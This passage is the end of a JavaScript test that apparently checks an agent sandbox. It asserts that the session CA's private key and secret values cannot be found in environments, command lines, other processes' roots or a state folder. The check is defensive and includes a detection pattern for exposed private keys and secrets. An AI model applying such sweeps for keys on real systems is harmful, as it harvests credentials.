    const ca = new X509Certificate(readFileSync(caFile, 'utf8'));
    const found = [
      ...(dump.includes('PRIVATE KEY') ? ['a private key is readable in the sandbox'] : []),
      ...(dump.includes(VALUE) || dump.includes(SELF_VALUE) ? ['a value is readable in the sandbox'] : []),
      ...(stateFiles ? [`the state folder holds a private key: ${stateFiles}`] : []),
      ...(ca.ca ? [] : ['the session CA is no CA']),
    ];
    assert.ok(dump.includes('agent-sandbox-placeholder-'), 'the dump read the environment');
    observe(
      AREA,
      'look for the session CA`s private key and the values: environments, command lines, other processes` roots, files',
      'nowhere in the sandbox nor in the state folder (the key lives in the proxy process only)',
      found.length ? found.join('; ') : 'not found',
      found.length === 0,
    );
    assert.deepEqual(found, []);
  });
});
